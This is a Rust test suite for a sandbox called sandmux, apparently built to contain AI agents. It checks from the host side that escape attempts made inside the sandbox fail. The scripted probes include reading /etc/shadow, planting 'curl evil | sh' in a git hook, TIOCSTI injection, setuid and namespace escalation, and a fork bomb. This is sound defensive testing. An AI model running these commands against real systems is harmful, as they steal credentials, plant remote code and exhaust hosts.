//! Attacks from inside `sandmux run`, checked from the host side.
//! Each test also shows the attack works where the protection does not apply
//! (a positive control), so a probe cannot pass by failing for another reason.

use crate::common;
use crate::degraded_env;
use common::*;
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt;
use std::process::Command;

fn mtime_and_hash(p: &std::path::Path) -> (i64, Vec<u8>) {
    let m = std::fs::metadata(p).unwrap();
    (
        m.mtime_nsec() + m.mtime() * 1_000_000_000,
        std::fs::read(p).unwrap_or_default(),
    )
}

/// Writes outside the workspace fail; host files keep content and mtime.
#[test]
fn write_outside_workspace() {
    let ws = Ws::new();
    let host = host_dir();
    let canary = host.path().join("canary.txt");
    put(&canary, "original");
    let before = mtime_and_hash(&canary);
    let etc_probe = format!("/etc/sandmux-escape-{:x}", rand_u64());
    let script = format!(
        "echo pwned > {c}; echo pwned > {e}; echo pwned > /usr/sandmux-escape; touch /sandmux-escape; echo ws > inside.txt; echo done",
        c = canary.display(),
        e = etc_probe
    );
    let o = run_script(&ws, "default", &script);
    let t = text(&o);
    assert!(t.contains("done"), "{t}");
    assert!(
        t.contains("Read-only file system")
            || t.contains("Permission denied")
            || t.contains("No such file"),
        "{t}"
    );
    assert_eq!(mtime_and_hash(&canary), before, "host canary changed");
    assert!(
        !std::path::Path::new(&etc_probe).exists(),
        "{etc_probe} created on the host"
    );
    assert!(!std::path::Path::new("/usr/sandmux-escape").exists());
    assert!(!std::path::Path::new("/sandmux-escape").exists());
    // Positive control: the same shell could write where the profile allows.
    assert_eq!(
        std::fs::read_to_string(ws.join("inside.txt")).unwrap(),
        "ws\n"
    );
}

/// Files outside the profile's view are not there at all; masked files are empty.
#[test]
fn read_host_secrets() {
    let ws = Ws::new();
    let host = host_dir();
    let secret = host.path().join("secret.txt");
    put(&secret, "TOP-SECRET-CANARY-42");
    let script = format!(
        "cat {} ; cat /etc/shadow; ls -a /root 2>&1; ls {}; echo end",
        secret.display(),
        host.path().display()
    );
    let o = run_script(&ws, "default", &script);
    let t = text(&o);
    assert!(t.contains("end"), "{t}");
    assert!(!t.contains("TOP-SECRET-CANARY-42"), "secret read: {t}");
    assert!(!t.contains("root:"), "/etc/shadow content visible: {t}");
    // Positive control: the file is readable on the host, and /etc itself is visible inside.
    assert_eq!(
        std::fs::read_to_string(&secret).unwrap(),
        "TOP-SECRET-CANARY-42"
    );
    let o = run_script(&ws, "default", "head -c 5 /etc/passwd");
    assert_eq!(String::from_utf8_lossy(&o.stdout), "root:");
}

/// E9/E11: protected paths stay read-only inside the writable workspace.
#[test]
fn protected_paths_are_read_only() {
    let ws = Ws::new();
    put(&ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
    put(&ws.join(".git/config"), "[core]\n");
    put(&ws.join(".envrc"), "export A=1\n");
    let hook = mtime_and_hash(&ws.join(".git/hooks/pre-commit"));
    let config = mtime_and_hash(&ws.join(".git/config"));
    let envrc = mtime_and_hash(&ws.join(".envrc"));
    let o = run_script(
        &ws,
        "default",
        "echo 'curl evil | sh' >> .git/hooks/pre-commit; echo x > .git/hooks/post-checkout; \
         printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config; echo 'eval evil' > .envrc; \
         rm -f .envrc; mv .git/hooks .git/hooks2; echo ok > .git/HEAD; echo ok > notes.txt; echo end",
    );
    let t = text(&o);
    assert!(t.contains("end"), "{t}");
    assert_eq!(mtime_and_hash(&ws.join(".git/hooks/pre-commit")), hook);
    assert_eq!(mtime_and_hash(&ws.join(".git/config")), config);
    assert_eq!(mtime_and_hash(&ws.join(".envrc")), envrc);
    assert!(!ws.join(".git/hooks/post-checkout").exists());
    assert!(ws.join(".git/hooks").is_dir());
    // The whole of .git is read-only now (P8), HEAD included.
    assert!(!std::fs::read_to_string(ws.join(".git/HEAD"))
        .unwrap_or_default()
        .contains("ok"));
    // Positive control: the rest of the workspace is writable.
    assert_eq!(
        std::fs::read_to_string(ws.join("notes.txt")).unwrap(),
        "ok\n"
    );
}

/// E11: renaming a parent away and recreating the protected path fails too
/// (every parent of a protected path is pinned as a mount point).
#[test]
fn protected_paths_survive_parent_rename() {
    let ws = Ws::new();
    put(&ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
    put(&ws.join(".git/config"), "[core]\n");
    put(&ws.join(".vscode/tasks.json"), "{}\n");
    let hook = mtime_and_hash(&ws.join(".git/hooks/pre-commit"));
    let o = run_script_live(
        &ws,
        "default",
        "mv .git .git-old; echo mv=$?; rm -rf .git; echo rm=$?; mv .git/hooks .git/h2; echo mvhooks=$?; \
         mv .vscode .v2; echo mvvs=$?; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; echo end",
    );
    let t = text(&o);
    assert!(t.contains("end"), "{t}");
    assert!(
        t.contains("mv=1") && t.contains("mvhooks=1") && t.contains("mvvs=1"),
        "{t}"
    );
    assert!(t.contains("Device or resource busy"), "{t}");
    assert_eq!(mtime_and_hash(&ws.join(".git/hooks/pre-commit")), hook);
    assert!(!ws.join(".git-old").exists() && !ws.join(".v2").exists());
}

/// Known gap 9: the sandmux binary inside the workspace (`cargo run` in a
/// checkout used as the workspace). Live: it is bound read-only with its
/// parents pinned: the agent can neither write, remove nor move it (or its
/// directory) away; its sibling stays writable. Copy-on-write: the agent's
/// writes stay in the layer, and `run`'s `--on-end apply` holds back the
/// binary and its directories while the sibling comes in. Control: run by a
/// binary elsewhere, live, the same copy is a plain file the same script
/// replaces.
#[test]
fn the_sandmux_binary_in_the_workspace_cannot_be_replaced() {
    let script = "echo evil > tools/sandmux; echo w=$?; rm -f tools/sandmux; echo rm=$?; \
                  mv tools/sandmux tools/x; echo mv=$?; mv tools tools2; echo mvdir=$?; \
                  echo ok > tools/other; echo other=$?; echo end";
    let attack = |run_by: Option<&str>, mode: &str| {
        let ws = Ws::new();
        let state = host_dir();
        let copy = ws.join("tools/sandmux");
        std::fs::create_dir_all(copy.parent().unwrap()).unwrap();
        std::fs::copy(bin(), &copy).unwrap();
        let before = std::fs::read(&copy).unwrap();
        let exe = run_by.map_or(bin(), |_| copy.clone());
        let o = Command::new(exe)
            .args(["run", "-q", "--workspace-mode", mode, "-p", "default", "-w"])
            .arg(ws.path())
            .args(["--", "bash", "-c", script])
            .env("XDG_STATE_HOME", state.path())
            .output()
            .unwrap();
        let kept = std::fs::read(&copy).ok() == Some(before);
        (text(&o), kept, ws)
    };
    let (t, kept, _ws) = attack(Some("the copy"), "live");
    assert!(t.contains("end") && t.contains("other=0"), "{t}");
    for refused in ["w=1", "rm=1", "mv=1", "mvdir=1"] {
        assert!(t.contains(refused), "{refused}: {t}");
    }
    assert!(kept, "the binary in the workspace changed: {t}");
    let (t, kept, _ws) = attack(Some("the copy"), "copy-on-write");
    assert!(t.contains("end") && t.contains("w=0"), "{t}");
    assert!(t.contains("held back tools"), "{t}");
    assert!(t.contains("sandmux binary that runs this"), "{t}");
    assert!(
        kept,
        "copy-on-write: the binary in the workspace changed: {t}"
    );
    let (t, kept, _ws) = attack(None, "live");
    assert!(t.contains("w=0") && t.contains("end"), "control: {t}");
    assert!(!kept, "control: the copy was not replaced: {t}");
    // A hard link of the running binary (cargo's `deps/` copy, which its
    // next build links back) is held back by its inode; control: run by
    // the binary elsewhere, the same write comes in.
    for by_copy in [true, false] {
        let ws = Ws::new();
        let state = host_dir();
        let copy = ws.join("tools/sandmux");
        std::fs::create_dir_all(copy.parent().unwrap()).unwrap();
        std::fs::copy(bin(), &copy).unwrap();
        let deps = ws.join("tools/deps-sandmux");
        std::fs::hard_link(&copy, &deps).unwrap();
        // Older than the layer by more than the door's margin for coarse
        // ctimes (a link changes the file's ctime).
        std::thread::sleep(std::time::Duration::from_millis(50));
        let exe = if by_copy { copy.clone() } else { bin() };
        let o = Command::new(exe)
            .args(["run", "-q", "-p", "default", "-w"])
            .arg(ws.path())
            .args([
                "--",
                "bash",
                "-c",
                "echo evil > tools/deps-sandmux; echo deps=$?",
            ])
            .env("XDG_STATE_HOME", state.path())
            .output()
            .unwrap();
        let t = text(&o);
        assert!(t.contains("deps=0"), "{t}");
        let now = std::fs::read(&deps).unwrap();
        if by_copy {
            assert!(t.contains("a link of the sandmux binary"), "{t}");
            assert!(
                now == std::fs::read(bin()).unwrap(),
                "the link changed: {t}"
            );
        } else {
            assert!(now == b"evil\n", "control: the link kept its bytes: {t}");
        }
    }
}

/// E10: a protected path that is a symlink (planted by an earlier run) makes
/// start-up fail closed, and nothing on the host is touched.
#[test]
fn symlinked_protected_path_refuses_start() {
    let ws = Ws::new();
    let host = host_dir();
    let target = host.path().join("bashrc");
    put(&target, "original rc\n");
    let before = mtime_and_hash(&target);
    std::os::unix::fs::symlink(&target, ws.join(".envrc")).unwrap();
    let o = run_script_live(&ws, "default", "echo should-not-run");
    let t = text(&o);
    assert_eq!(o.status.code(), Some(3), "{t}");
    assert!(t.contains(".envrc") && t.contains("symlink"), "{t}");
    assert!(!t.contains("should-not-run"));
    assert_eq!(mtime_and_hash(&target), before);
    let entries: Vec<_> = std::fs::read_dir(ws.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(
        entries.len(),
        1,
        "artefacts left in the workspace: {entries:?}"
    );
}

fn connect_script(port: u16) -> String {
    format!(
        "python3 -c \"import socket,sys\ns=socket.socket()\ns.settimeout(2)\ntry:\n  s.connect(('127.0.0.1',{port})); print('CONNECTED')\nexcept OSError as e:\n  print('ERR', e.errno)\""
    )
}

fn accepted(l: &TcpListener) -> bool {
    l.set_nonblocking(true).unwrap();
    l.accept().is_ok()
}

/// E20: `none` (default) and `loopback` (ci) have only the sandbox's own
/// loopback: a connect to 127.0.0.1 is refused there, never reaches the
/// host's listener on the same port; a server inside answers its client
/// inside (the positive control that loopback is up).
#[test]
fn tcp_connect_none_and_loopback() {
    let ws = Ws::new();
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    for profile in ["default", "ci"] {
        let o = run_script(&ws, profile, &connect_script(port));
        assert!(
            text(&o).contains(&format!("ERR {}", libc::ECONNREFUSED)),
            "{profile}: {}",
            text(&o)
        );
        let both = format!(
            "python3 -c \"import socket\nl=socket.socket(); l.bind(('127.0.0.1',{port})); l.listen(1)\nc=socket.create_connection(('127.0.0.1',{port}),2); a=l.accept()[0]; c.sendall(b'ok'); print('INSIDE', a.recv(2).decode())\""
        );
        let o = run_script(&ws, profile, &both);
        assert!(text(&o).contains("INSIDE ok"), "{profile}: {}", text(&o));
    }
    assert!(!accepted(&l), "the host listener saw a connection");
}

/// E22: in `host` mode, TCP connects reach exactly the profile's ports.
#[test]
fn tcp_host_mode_port_allowlist() {
    let ws = Ws::new();
    let pdir = host_dir();
    let allowed = TcpListener::bind("127.0.0.1:0").unwrap();
    let denied = TcpListener::bind("127.0.0.1:0").unwrap();
    let ap = allowed.local_addr().unwrap().port();
    let dp = denied.local_addr().unwrap().port();
    let prof = profile_file(pdir.path(), "hostnet", "dev", |t| {
        t.replace("connect_tcp = [80, 443]", &format!("connect_tcp = [{ap}]"))
    });
    let o = run_script(
        &ws,
        prof.to_str().unwrap(),
        &format!("{}; {}", connect_script(dp), connect_script(ap)),
    );
    let t = text(&o);
    assert!(
        t.contains(&format!("ERR {}", libc::EACCES)),
        "denied port not refused: {t}"
    );
    assert!(
        t.contains("CONNECTED"),
        "allowed port not reached (positive control): {t}"
    );
    assert!(
        !accepted(&denied),
        "the denied port's listener saw a connection"
    );
    assert!(accepted(&allowed));
}

/// E1: TIOCSTI on every fd (and with high bits set) fails; the harness-owned
/// pty's input queue stays empty.
#[test]
fn tiocsti_injection_refused() {
    let ws = Ws::new();
    let pty = nix::pty::openpty(None, None).unwrap();
    let slave = std::fs::File::from(pty.slave);
    let o = run(ws.path())
        .cmd(["python3", "-c", include_str!("probes/tiocsti.py")])
        .command()
        .stdin(slave.try_clone().unwrap())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .output()
        .unwrap();
    let t = text(&o);
    assert!(!t.contains("INJECTED"), "{t}");
    assert!(t.contains(&format!("0:{}", libc::EPERM)), "{t}");
    // Nothing was queued as input on the pty.
    let fd = std::os::fd::AsRawFd::as_raw_fd(&slave);
    nix::fcntl::fcntl(
        &slave,
        nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK),
    )
    .unwrap();
    let mut buf = [0u8; 16];
    let n = nix::unistd::read(&slave, &mut buf);
    assert!(
        matches!(n, Err(nix::errno::Errno::EAGAIN)),
        "pty input queue holds {n:?} (fd {fd})"
    );
}

/// E23: no nested namespaces, no mounts, and setuid binaries do not raise privilege.
#[test]
fn namespaces_mounts_and_setuid() {
    let ws = Ws::new();
    let o = run_script(
        &ws,
        "default",
        "unshare -Ur true; echo unshare=$?; unshare -m true; echo unshare_m=$?; \
         python3 -c \"import ctypes,os;l=ctypes.CDLL(None,use_errno=True);print('clone3', l.syscall(435,0,0), ctypes.get_errno())\"; \
         su -c id root </dev/null; echo su=$?; /usr/bin/passwd -S root; echo passwd=$?; id -u",
    );
    let t = text(&o);
    assert!(t.contains("unshare=1") && t.contains("unshare_m=1"), "{t}");
    assert!(t.contains("Operation not permitted"), "{t}");
    assert!(t.contains(&format!("clone3 -1 {}", libc::ENOSYS)), "{t}");
    assert!(!t.contains("su=0") && !t.contains("uid=0"), "{t}");
    assert!(
        String::from_utf8_lossy(&o.stdout)
            .trim_end()
            .ends_with("1000"),
        "{t}"
    );
}

/// E27: a fork bomb stays inside the process limit; the host stays responsive
/// and the supervisor returns.
#[test]
fn fork_bomb_is_contained() {
    let ws = Ws::new();
    let bomb = include_str!("probes/fork_bomb.py");
    let child = run(ws.path())
        .cmd(["python3", "-c", bomb])
        .command()
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // The host keeps answering while it runs.
    let host = std::process::Command::new("true").status().unwrap();
    assert!(host.success());
    let o = child.wait_with_output().unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    let words: Vec<&str> = t.split_whitespace().collect();
    let forked: usize = words[1].parse().unwrap();
    let procs: usize = words[5].parse().unwrap();
    assert_eq!(
        words[3],
        libc::EAGAIN.to_string(),
        "fork did not hit the limit: {t}"
    );
    assert!(forked > 100 && forked < 512, "{t}");
    assert!(procs <= 512, "{t}");
}

/// What the set-ID attack does from inside, each step printing `NAME=RESULT`
/// (`ok` or the errno's name): every way to give a file a set-ID mode, a
/// file capability, and special files, in the workspace.
const SETID_ATTACK: &str = concat!(
    r#"cp /bin/true suid && chmod u+s suid; echo chmod_u=$?
cp /bin/true sgid && chmod 2755 sgid; echo chmod_g=$?
mkdir setgid-dir && chmod g+s setgid-dir; echo chmod_dir=$?
cp /bin/true plain
python3 - <<'PY'
"#,
    include_str!("probes/setid.py"),
    "PY\necho attack-done"
);

/// Whether a host path carries a set-ID bit, a file capability or is a
/// special file; its name and why, for the assertion.
fn host_hazards(dir: &std::path::Path) -> Vec<String> {
    use std::os::unix::fs::FileTypeExt;
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let m = e.path().symlink_metadata().unwrap();
        let name = e.file_name().to_string_lossy().to_string();
        if m.mode() & (libc::S_ISUID | libc::S_ISGID) != 0 {
            out.push(format!("{name}: mode {:o}, owner {}", m.mode(), m.uid()));
        }
        let t = m.file_type();
        if t.is_fifo() || t.is_socket() || t.is_char_device() || t.is_block_device() {
            out.push(format!("{name}: special file {:o}", m.mode()));
        }
        let c = std::ffi::CString::new(e.path().as_os_str().as_encoded_bytes()).unwrap();
        // SAFETY: lgetxattr with a NUL-terminated path and name, no buffer
        // (size 0 asks for the value's length only).
        let n = unsafe {
            libc::lgetxattr(
                c.as_ptr(),
                c"security.capability".as_ptr(),
                std::ptr::null_mut(),
                0,
            )
        };
        if n >= 0 {
            out.push(format!("{name}: file capability"));
        }
    }
    out
}

/// P8, first class: nothing made inside carries a set-ID bit, a file
/// capability or a special file onto the host, on every built-in profile,
/// with the workspace live and copy-on-write (applied at the end).
/// The kernel refuses each way (seccomp; `CAP_SETFCAP` for capabilities)
/// but a unix socket bound by path, which the end sweep removes; the host
/// checks the workspace afterwards. Positive control: the same
/// attack with sandmux's filter dropped (the explicit opt-in, in an
/// environment where no filter can be installed) leaves set-ID files and a
/// FIFO in the host tree — root's, when the test runs as root.
#[test]
fn setid_files_capabilities_and_special_files_never_reach_the_host() {
    let every = ["default", "ci", "dev", "registries", "container"];
    for (mode, profile) in ["live", "copy-on-write"]
        .into_iter()
        .flat_map(|m| every.map(|p| (m, p)))
    {
        let ws = Ws::new();
        let state = host_dir();
        let o = run(ws.path())
            .profile(profile)
            .flag("--workspace-mode", mode)
            .state(state.path())
            .script(SETID_ATTACK)
            .output();
        let t = text(&o);
        let profile = format!("{profile} ({mode})");
        assert!(t.contains("attack-done"), "{profile}: {t}");
        for step in [
            "chmod_u=1",
            "chmod_g=1",
            "chmod_dir=1",
            "open_creat=EPERM",
            "open_creat_sgid=EPERM",
            "tmpfile=EPERM",
            "creat=EPERM",
            "fchmod=EPERM",
            "fchmodat=EPERM",
            "fchmodat2=EPERM",
            "mknod_reg=EPERM",
            "mkfifo=EPERM",
            "mknod_sock=EPERM",
            "whiteout=EPERM",
            "rename_whiteout=EPERM",
            // A socket bound by path is made (the filter cannot see bind's
            // path); the end sweep removes it.
            "bound=socket",
            "openat2=ENOSYS",
            "setcap=EPERM",
            // The same calls without a set-ID bit still work.
            "plain_chmod=ok",
        ] {
            assert!(t.contains(step), "{profile}: {step} missing in {t}");
        }
        assert_eq!(
            host_hazards(&ws.path()),
            Vec::<String>::new(),
            "{profile}: {t}"
        );
        assert!(ws.join("plain").exists() && ws.join("suid").exists(), "{t}");
        // Live: the end sweep removes the socket; copy-on-write: `run`'s
        // `--on-end apply` holds it back in the layer.
        let said = match mode {
            "live" => {
                "bound.sock: a socket, FIFO or device node the agent left in the tree; removed"
            }
            _ => "held back bound.sock",
        };
        assert!(t.contains(said), "{profile}: {t}");
    }

    // Positive control: sandmux's filter dropped.
    let (ws, dir, tmp) = degraded_env::scratch();
    let opt = degraded_env::profile_with(
        dir.path(),
        "noseccomp",
        "default",
        &["cgroup", "seccomp", "supervisor"],
        None,
    );
    let o = degraded_env::run_in(
        degraded_env::Env::NoSeccomp,
        tmp.path(),
        run(ws.path()).live().profile(&opt).script(SETID_ATTACK),
    );
    let t = text(&o);
    assert!(
        t.contains("chmod_u=0") && t.contains("mkfifo=ok"),
        "control: {t}"
    );
    // FIFOs and whiteouts were made (and the end sweep took them out).
    assert!(t.contains("rename_whiteout=ok"), "control: {t}");
    for name in ["fifo", "to-rename", "whiteout", "bound.sock"] {
        let said =
            format!("{name}: a socket, FIFO or device node the agent left in the tree; removed");
        assert!(t.contains(&said), "control: {name}: {t}");
    }
    let found = host_hazards(&ws.path());
    for name in ["suid:", "sgid:", "o-creat:"] {
        assert!(
            found.iter().any(|f| f.starts_with(name)),
            "control: {name} {found:?}"
        );
    }
    if uid() == 0 {
        assert!(
            found.iter().any(|f| f == "suid: mode 104755, owner 0"),
            "control: {found:?}"
        );
    }
}
